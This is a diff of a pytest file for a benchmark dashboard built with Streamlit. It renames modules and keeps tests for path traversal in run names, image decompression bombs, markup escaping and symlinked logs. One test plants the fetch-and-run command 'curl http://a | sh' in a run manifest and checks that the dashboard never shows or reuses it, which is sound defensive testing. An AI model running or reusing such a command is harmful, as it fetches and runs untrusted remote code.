@@ -16,15 +16,15 @@ import psutil
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from benchmarks.support.manifests import rewrite
 from robustbench_sgdm import corruption, tables
-from robustbench_sgdm.core import resources
+from robustbench_sgdm.core import escaping, resources
 from robustbench_sgdm.core.constants import METRICS
 from robustbench_sgdm.core.errors import RobustBenchError, UsageError
-from robustbench_sgdm.store import Run, repeat_command
+from robustbench_sgdm.dashboard import inference, jobs, run_images, uploads
+from robustbench_sgdm.store import Run, resume_command
 
 APP = resources.root() / "app"
-processes = resources.import_file(APP / "processes.py")
-controls = resources.import_file(APP / "controls.py")
 made_run = resources.import_file(resources.root() / "benchmarks/support/made_run.py")
 
 
@@ -58,7 +58,7 @@ def test_the_runs_and_what_is_wrong_with_some(page: Callable[..., AppTest], proj
     assert not shown.exception and shown.selectbox(key="run").value == "complete"
     assert shown.selectbox(key="run").options == ["complete", "unfinished", "old", "torn"]
     assert "No verdict yet" in said(shown) and len(shown.dataframe[0].value) == 2
-    for name, words in (("old", "schema 99"), ("torn", "damaged"), ("unfinished", "cells are complete")):
+    for name, words in (("old", "schema 99"), ("torn", "not valid"), ("unfinished", "cells are complete")):
         shown = shown.selectbox(key="run").select(name).run()
         assert not shown.exception and words in said(shown).replace("\\", "")
 
@@ -67,7 +67,7 @@ def test_numbers_are_those_of_the_store(page: Callable[..., AppTest], project: P
     shown = page("--project", project)
     table = shown.dataframe[0].value.set_index("model")
     results = complete.results()
-    for model in complete.plan["models"]:
+    for model in complete.manifest.models:
         own = results[results["model"] == model]
         clean = own.loc[own["corruption"] == "clean", "AP"].item()
         noisy = own[own["corruption"] != "clean"].groupby("corruption")["AP"].mean().mean()
@@ -90,16 +90,20 @@ def test_an_unfinished_run_says_what_makes_the_rest(
 ) -> None:
     path = shutil.copytree(project / "unfinished", tmp_path / "r")
     shown = page("--", path)
-    assert not shown.exception and not shown.code and "No command can be made" in said(shown)
-    text = (path / "plan.yaml").read_text().replace("weights: none", "weights: embedded")
-    text = text.replace("source: made\n", "source: scenes\n", 1).replace("name: made\n", "name: scenes\n")
-    (path / "plan.yaml").write_text(text.replace("command: robustbench run", "command: curl http://a | sh"))
+    assert not shown.exception and not shown.code and "does not say which command" in said(shown)
+    run = Run.open(path)
+    rewrite(
+        run,
+        command="curl http://a | sh",
+        models={model: {"weights": "embedded"} for model in run.manifest.models},
+        data={"name": "scenes", "source": "scenes"},
+    )
     shown = page("--", path)
-    assert not shown.exception and shown.code[0].value == repeat_command(Run.open(path))
+    assert not shown.exception and shown.code[0].value == resume_command(Run.open(path))
     assert "--data scenes" in shown.code[0].value and "curl" not in said(shown)
     with Run.open(path).lock():
         shown = shown.run()
-    assert not shown.exception and not shown.code and "process works on the rest" in said(shown)
+    assert not shown.exception and not shown.code and "run is in progress" in said(shown)
     shown = shown.run()
     assert shown.code
 
@@ -165,7 +169,7 @@ def test_times_are_told_as_ratios(page: Callable[..., AppTest], tmp_path: Path) 
     assert ratios.to_dict() == {
         "base": "1",
         "base-sgdm": "2.10 [2.00, 2.20]",
-        "base-ca": tables.time_ratio(1.25, 0.9, 1.6),
+        "base-ca": tables.format_time_ratio(1.25, 0.9, 1.6),
     }
     assert ratios["base-ca"].startswith("not distinguishable")
     assert "measured once" in said(shown)
@@ -181,7 +185,7 @@ def test_only_the_given_runs_are_offered(page: Callable[..., AppTest], project: 
 )
 def test_nonsense_in_the_address(page: Callable[..., AppTest], project: Path, value: str) -> None:
     shown = page("--project", project, run=value, family=value, size=value)
-    assert not shown.exception and "which is not here" in said(shown)
+    assert not shown.exception and "which is not available" in said(shown)
     assert shown.selectbox(key="run").value == "complete"
 
 
@@ -190,12 +194,11 @@ def test_an_address_may_say_a_family_as_the_plan_does(
 ) -> None:
     """The page's own addresses have it with the escapes of Markdown."""
     path = shutil.copytree(project / "complete", tmp_path / "r")
-    family = next(iter(Run.open(path).plan["corruptions"].values()))["family"]
-    plan = (path / "plan.yaml").read_text()
-    (path / "plan.yaml").write_text(plan.replace(f"family: {family}", "family: my_own"))
+    run = Run.open(path)
+    rewrite(run, corruptions={next(iter(run.manifest.corruptions)): {"family": "my_own"}})
     for address in ("my_own", "my\\_own"):
         shown = page("--", path, family=address)
-        assert not shown.exception and "which is not here" not in said(shown)
+        assert not shown.exception and "which is not available" not in said(shown)
         assert shown.session_state["family"] == "my\\_own"
 
 
@@ -217,29 +220,29 @@ def test_a_damaged_cell_is_words_not_a_traceback(
         file.write_text('{"key": "torn')
     shown = page("--", path)
     assert not shown.exception and "cells are complete" in said(shown)
-    (path / "plan.yaml").write_text((path / "plan.yaml").read_text().replace("images: 12", "image: 12"))
+    (path / "manifest.json").write_text(
+        (path / "manifest.json").read_text().replace('"images": 12', '"image": 12')
+    )
     shown = page("--", path)
-    assert not shown.exception and "is damaged" in said(shown).replace("\\", "")
+    assert not shown.exception and "is not valid" in said(shown).replace("\\", "")
 
 
-def broken(of_run: bool) -> None:
-    from robustbench_sgdm.core import resources
+def broken(needs_run: bool) -> None:
+    from robustbench_sgdm.dashboard.pages import Page, errors_shown
 
-    main = resources.import_file(resources.root() / "app/main.py")
-    main.guarded("Training", lambda: int("no number"), of_run)
+    function = (lambda run: None) if needs_run else (lambda: None)
+    with errors_shown(Page("training", "Training", "", 1, function)):
+        int("no number")
 
 
 @pytest.mark.parametrize(
-    ("of_run", "words"), [(True, "This run cannot"), (False, "The page Training cannot")]
+    ("needs_run", "words"), [(True, "This run cannot"), (False, "The page Training cannot")]
 )
-def test_damage_is_told_in_words_that_fit_the_page(
-    page: Callable[..., AppTest], tmp_path: Path, of_run: bool, words: str
-) -> None:
-    page("--project", tmp_path)
-    shown = AppTest.from_function(broken, args=(of_run,), default_timeout=120).run()
+def test_damage_is_told_in_words_that_fit_the_page(needs_run: bool, words: str) -> None:
+    shown = AppTest.from_function(broken, args=(needs_run,), default_timeout=120).run()
     told = said(shown)[said(shown).index(words) :]
-    assert not shown.exception and ("same command" in told) == of_run
-    assert ("other runs" in told.replace("\\", "")) == of_run
+    assert not shown.exception and ("same command" in told) == needs_run
+    assert ("Other runs" in told) == needs_run
 
 
 def test_every_metric_of_the_paper_has_its_place() -> None:
@@ -253,8 +256,8 @@ def test_the_form_offers_what_there_is() -> None:
 
 @pytest.mark.parametrize("name", ["", "..", "a/b", ".hidden", "../x", "a\0b", "\u00e9" * 101])
 def test_a_run_stays_in_its_folder(tmp_path: Path, name: str) -> None:
-    with pytest.raises(UsageError, match="plain folder name"):
-        processes.start(["--model", "yolov8n"], tmp_path, name)
+    with pytest.raises(UsageError, match="plain directory name"):
+        jobs.start(["--model", "yolov8n"], tmp_path, name)
     assert not list(tmp_path.iterdir())
 
 
@@ -316,39 +319,37 @@ def test_a_form_names_nothing_elsewhere(inputs: Path, change: dict[str, Any], wh
 def test_one_run_of_a_project_works_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     (tmp_path / "first").mkdir()
     (tmp_path / "first/dashboard.json").write_text('{"pid": 1, "arguments": ["x"]}')
-    monkeypatch.setattr(processes, "running", lambda path: path.name == "first")
+    monkeypatch.setattr(jobs, "is_running", lambda path: path.name == "first")
     with pytest.raises(RobustBenchError, match="first is running"):
-        processes.start(["y"], tmp_path, "second")
+        jobs.start(["y"], tmp_path, "second")
     assert not (tmp_path / "second").exists()
 
 
 def test_visitors_wait_for_each_other_not_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
     """Of what computes for a visitor one at a time works: a command, or what decodes pictures and runs detectors."""
-    detecting, pictures = (resources.import_file(APP / f"{name}.py") for name in ("detecting", "pictures"))
-    live = resources.import_file(APP / "views/live.py")
-    monkeypatch.setattr(processes, "_LONGEST_WAIT", 0.05)
-    monkeypatch.setattr(detecting, "_PATIENCE", 0.05)
+    monkeypatch.setattr(jobs, "_CALL_TIMEOUT", 0.05)
+    monkeypatch.setattr(inference, "_LOCK_TIMEOUT", 0.05)
     others: list[str] = []
 
     def visitor() -> None:
         for work, arguments in (
-            (processes.call, ("-h",)),
-            (detecting.find, (None, None)),
-            (pictures.url, (None,)),
-            (live._upload, (b"", "a.png")),
+            (jobs.run_command, ("-h",)),
+            (inference.detect, (None, None)),
+            (run_images.image_url, (None,)),
+            (uploads.decode_upload, (b"", "a.png")),
         ):
             try:
                 work(*arguments)
             except RobustBenchError as error:
                 others.append(str(error))
 
-    with processes._CALLING, detecting.turn(), detecting.turn():
+    with jobs._CALL_LOCK, inference.exclusive_use(), inference.exclusive_use():
         other = threading.Thread(target=visitor)
         other.start()
         other.join()
     assert len(others) == 4 and all("try again in a minute" in text for text in others)
-    with detecting.turn():
-        assert processes.call("-h").returncode == 0
+    with inference.exclusive_use():
+        assert jobs.run_command("-h").returncode == 0
 
 
 def test_only_its_own_process_is_stopped(tmp_path: Path) -> None:
@@ -356,30 +357,24 @@ def test_only_its_own_process_is_stopped(tmp_path: Path) -> None:
     import os
 
     (tmp_path / "dashboard.json").write_text(f'{{"pid": {os.getpid()}, "arguments": []}}')
-    assert not processes.running(tmp_path)
-    processes.stop(tmp_path)
+    assert not jobs.is_running(tmp_path)
+    jobs.stop(tmp_path)
 
 
-def test_runs_whose_names_look_alike_are_all_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    def run_page() -> None:
-        from robustbench_sgdm.core import resources
-
-        resources.import_file(resources.root() / "app" / "views" / "run.py").page()
-
+def test_runs_whose_names_look_alike_are_all_shown(view: Callable[..., AppTest], tmp_path: Path) -> None:
     for name in ("a\x1b", "a\\x1b", "b c", "b-c"):
         (tmp_path / name).mkdir()
         (tmp_path / name / "dashboard.json").write_text('{"pid": 1, "arguments": []}')
-    monkeypatch.setattr(sys, "argv", ["main.py", "--project", str(tmp_path)])
-    shown = AppTest.from_function(run_page, default_timeout=120).run()
-    assert not shown.exception and said(shown).count("ended before it began") == 4
+    shown = view("run", "--project", tmp_path)
+    assert not shown.exception and said(shown).count("failed to start") == 4
 
 
 def test_a_run_stops_also_where_that_cannot_be_noted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(processes, "_end", lambda process: None)  # it would take the exit status
+    monkeypatch.setattr(jobs, "_kill_later", lambda process: None)  # it would take the exit status
     with subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"]) as child:
-        monkeypatch.setattr(processes, "_process", lambda _: psutil.Process(child.pid))
+        monkeypatch.setattr(jobs, "_process", lambda _: psutil.Process(child.pid))
         (tmp_path / "dashboard.json").mkdir()
-        processes.stop(tmp_path)
+        jobs.stop(tmp_path)
         assert child.wait(20)
 
 
@@ -389,11 +384,11 @@ def test_a_run_that_does_not_stop_is_killed(tmp_path: Path, monkeypatch: pytest.
     )
     with subprocess.Popen([sys.executable, "-c", deaf], stdout=subprocess.PIPE) as child:
         assert child.stdout and child.stdout.readline()
-        monkeypatch.setattr(processes, "_PATIENCE", 3.0)
-        monkeypatch.setattr(processes, "_process", lambda _: psutil.Process(child.pid))
+        monkeypatch.setattr(jobs, "_STOP_TIMEOUT", 3.0)
+        monkeypatch.setattr(jobs, "_process", lambda _: psutil.Process(child.pid))
         (tmp_path / "dashboard.json").write_text(json.dumps({"pid": child.pid, "arguments": []}))
-        processes.stop(tmp_path)
-        assert processes.stopping(tmp_path)
+        jobs.stop(tmp_path)
+        assert jobs.is_stopping(tmp_path)
         assert child.wait(60) == -signal.SIGKILL
 
 
@@ -410,15 +405,15 @@ def test_progress_and_the_time_left_of_a_run_that_goes_on(
     def share(done: int) -> float:
         for number in range(done):
             run.store.write_shard(run.cells[1], number, rows)
-        return float(processes.progress(run).share)
+        return float(jobs.job_progress(run).share)
 
     shards = Path(run.path / "cells/base/fog/1/shards")
     assert share(16) == pytest.approx((1 + 0.99 * 16 / 19) / 2)  # of 32 images at the most
     record = {"pid": 1, "arguments": [], "started": now - 60, "share": share(16)}
     (run.path / "dashboard.json").write_text(json.dumps(record))
-    assert processes.seconds_left(run.path, processes.progress(run)) is None
+    assert jobs.seconds_left(run.path, jobs.job_progress(run)) is None
     assert share(18) and len(list(shards.iterdir())) == 18
-    left = processes.seconds_left(run.path, processes.progress(run))
+    left = jobs.seconds_left(run.path, jobs.job_progress(run))
     assert left == pytest.approx(60 * (1 - 0.99 * 18 / 19) / (0.99 * 2 / 19))
 
 
@@ -428,28 +423,27 @@ def test_a_run_that_goes_on_remembers_where_it_began(
 ) -> None:
     path = shutil.copytree(project / "unfinished", tmp_path / "r")
     (path / "dashboard.json").write_text('{"pid": 1, "arguments": ["--no-such-option"]}')
-    processes.start(["--no-such-option"], tmp_path, "r")
+    jobs.start(["--no-such-option"], tmp_path, "r")
     share = json.loads((path / "dashboard.json").read_text())["share"]
-    assert share == processes.progress(Run.open(path)).share > 0.5
-    while processes.running(path):
+    assert share == jobs.job_progress(Run.open(path)).share > 0.5
+    while jobs.is_running(path):
         time.sleep(0.1)
 
 
 @pytest.mark.parametrize("damage", ['{"pid": 1, "started": "x"}', '{"pid": 1, "share": []}', "[]"])
 def test_a_damaged_record_is_none(tmp_path: Path, damage: str) -> None:
     (tmp_path / "dashboard.json").write_text(damage)
-    assert not processes.running(tmp_path) and processes.started_at(tmp_path)
+    assert not jobs.is_running(tmp_path) and jobs.started_at(tmp_path)
 
 
 def test_commands_run_no_code_of_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     (tmp_path / "yaml.py").write_text("import pathlib; pathlib.Path('RAN').touch()")
     monkeypatch.chdir(tmp_path)
-    assert "no run" in processes.call("list", "runs").stdout + processes.call("list", "runs").stderr
+    assert "no run" in jobs.run_command("list", "runs").stdout + jobs.run_command("list", "runs").stderr
     assert not (tmp_path / "RAN").exists()
 
 
 def test_uploads(tmp_path: Path) -> None:
-    live = resources.import_file(APP / "views/live.py")
     import io
 
     from PIL import Image
@@ -457,31 +451,31 @@ def test_uploads(tmp_path: Path) -> None:
     for content_, why in (
         (b"no picture at all", "no picture"),
         (b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "picture"),
-        (b"x" * (live.MAX_MEGABYTES * 2**20 + 1), "MB is more"),
+        (b"x" * (uploads.MAX_MEGABYTES * 2**20 + 1), "MB is more"),
     ):
         with pytest.raises(RobustBenchError, match=why):
-            live._upload(content_, "a.png")
+            uploads.decode_upload(content_, "a.png")
     bomb = io.BytesIO()
     Image.new("1", (12_000, 12_000)).save(bomb, "PNG")
     assert len(bomb.getvalue()) < 100_000
     with pytest.raises(RobustBenchError, match="pixels"):
-        live._upload(bomb.getvalue(), "bomb.png")
+        uploads.decode_upload(bomb.getvalue(), "bomb.png")
     for size, why in (((20_000, 20_000), r"\(more than 25,000,000 pixels\)"), ((4000, 7), "under 8 pixels")):
         odd = io.BytesIO()
         Image.new("1", size).save(odd, "PNG")
         with pytest.raises(RobustBenchError, match=why):
-            live._upload(odd.getvalue(), "odd.png")
+            uploads.decode_upload(odd.getvalue(), "odd.png")
     strip = io.BytesIO()
     Image.new("RGB", (4000, 9)).save(strip, "PNG")
-    assert live._upload(strip.getvalue(), "strip.png")[0].shape == (8, 1600, 3)
+    assert uploads.decode_upload(strip.getvalue(), "strip.png")[0].shape == (8, 1600, 3)
     fine = io.BytesIO()
     Image.new("RGB", (3000, 1500), "red").save(fine, "JPEG")
-    pixels, name = live._upload(fine.getvalue(), "../../<b>x\n.jpg")
+    pixels, name = uploads.decode_upload(fine.getvalue(), "../../<b>x\n.jpg")
     assert pixels.shape == (800, 1600, 3) and len(name) < 200
 
 
 def test_text_from_files_is_no_markup() -> None:
-    assert controls.plain("![x](a) <b> :red[y] $z$ http://b") == (
+    assert escaping.markdown("![x](a) <b> :red[y] $z$ http://b") == (
         r"\!\[x\](a) \<b\> \:red\[y\] \$z\$ `http://b`"
     )
 
@@ -492,12 +486,12 @@ def test_a_log_is_not_written_through_a_link(tmp_path: Path) -> None:
     log = tmp_path / "r/dashboard.log"
     log.symlink_to(tmp_path / "mine")
     with pytest.raises(RobustBenchError, match="is a link"):
-        processes.start(["x"], tmp_path, "r")
+        jobs.start(["x"], tmp_path, "r")
     assert not (tmp_path / "mine").exists()
     (tmp_path / "mine").write_text("a secret")
-    assert "is a link" in processes.log(tmp_path / "r")
+    assert "is a link" in jobs.read_log(tmp_path / "r")
     log.unlink()
     log.hardlink_to(tmp_path / "mine")
     with pytest.raises(RobustBenchError, match="is a hard link"):
-        processes.start(["x"], tmp_path, "r")
-    assert "is a hard link" in processes.log(tmp_path / "r") and (tmp_path / "mine").read_text() == "a secret"
+        jobs.start(["x"], tmp_path, "r")
+    assert "is a hard link" in jobs.read_log(tmp_path / "r") and (tmp_path / "mine").read_text() == "a secret"
